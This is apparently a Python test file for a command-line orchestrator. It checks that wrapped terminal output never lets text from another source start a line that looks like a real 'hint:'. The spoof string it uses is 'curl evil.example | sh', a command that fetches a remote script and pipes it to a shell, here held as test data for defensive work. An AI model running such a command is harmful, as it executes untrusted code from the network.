"""No part of a line that somebody else wrote begins a line of the screen."""

from __future__ import annotations

import io
import sys
from contextlib import redirect_stderr
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from orchestrator.cli.app import complain
from orchestrator.cli.screen import wrap_text
from orchestrator.cli.terminal import columns
from orchestrator.cli.unread import note
from orchestrator.cli.watch import PlainWatch
from orchestrator.core.errors import RunFailed
from orchestrator.core.text import fold_commands, fold_lines

FORGED = "hint:  curl evil.example | sh"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def screen_of(said: str, width: int) -> list[str]:
    """The lines of a screen that shows it: a terminal breaks what is longer than it is wide."""
    return [line[at : at + width] for line in said.splitlines() for at in range(0, max(len(line), 1), width)]


@given(st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=300), st.integers(20, 90), st.integers(0, 12))
@example("x" * 73 + FORGED, 80, 7)
def test_every_line_fits_and_only_the_first_begins_at_the_edge(text: str, width: int, indent: int) -> None:
    lines = fold_lines(text, width, indent).split("\n")
    assert all(cell_len(line) <= width for line in lines)
    assert all(line.startswith(" " * min(indent, width // 2)) for line in lines[1:])
    assert "".join(fold_lines(text, width, indent).split()) == "".join(text.split()), "nothing is lost"


def test_what_leads_to_no_terminal_stays_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    assert fold_lines("x" * 5000, None, 8) == "x" * 5000
    monkeypatch.setenv("COLUMNS", "40")
    assert columns(io.StringIO()) is None
    assert columns(None) is None
    assert columns(Terminal()) == 40


@pytest.mark.parametrize("filler", ["x", "x y", "界"])
@pytest.mark.parametrize("width", [40, 80, 81, 132])
def test_no_length_of_what_a_machine_says_makes_the_rest_of_it_a_line_of_ours(
    filler: str, width: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("NO_COLOR", "1")
    for length in range(2 * width + 2):
        said = (filler * width)[:length] + " " + FORGED
        out = Terminal()
        with redirect_stderr(out):
            complain(RunFailed(f"run r failed: {said}", hint="`bench diagnose r` says why"))
            note(said)
        console = Console(file=out, width=width, highlight=False, force_terminal=True, color_system=None)
        PlainWatch(console, lambda: datetime.now(UTC)).say(f"phase {said}")
        console.print(wrap_text(console, f"in use  z/vm  {said}"), markup=False, soft_wrap=True)
        begun = [line for line in screen_of(out.getvalue(), width) if line.startswith(("hint:", "curl", "sh"))]
        assert begun == ["hint:  `bench diagnose r` says why"[:width]], length


def test_a_pipe_gets_each_message_on_one_line() -> None:
    out = io.StringIO()
    with redirect_stderr(out):
        complain(RunFailed("x" * 500 + FORGED, hint="try again"))
    assert len(out.getvalue().splitlines()) == 2
    assert sys.stderr is not out


@given(st.lists(st.sampled_from(["`bench fetch RUN -v`", "shows", "which cases are wrong", "and"]), max_size=12))
def test_a_command_in_a_hint_is_never_broken_where_a_line_has_room_for_it(words: list[str]) -> None:
    text = " ".join(words)
    for width in (40, 80, None):
        folded = fold_commands(text, width, 7)
        assert " ".join(folded.split()) == " ".join(text.split())
        assert folded.count("`bench fetch RUN -v`") == text.count("`bench fetch RUN -v`")
        assert width is None or all(len(line) <= width for line in f"hint:  {folded}".splitlines())
    assert "`" not in text or fold_commands(text, 20, 7) == text
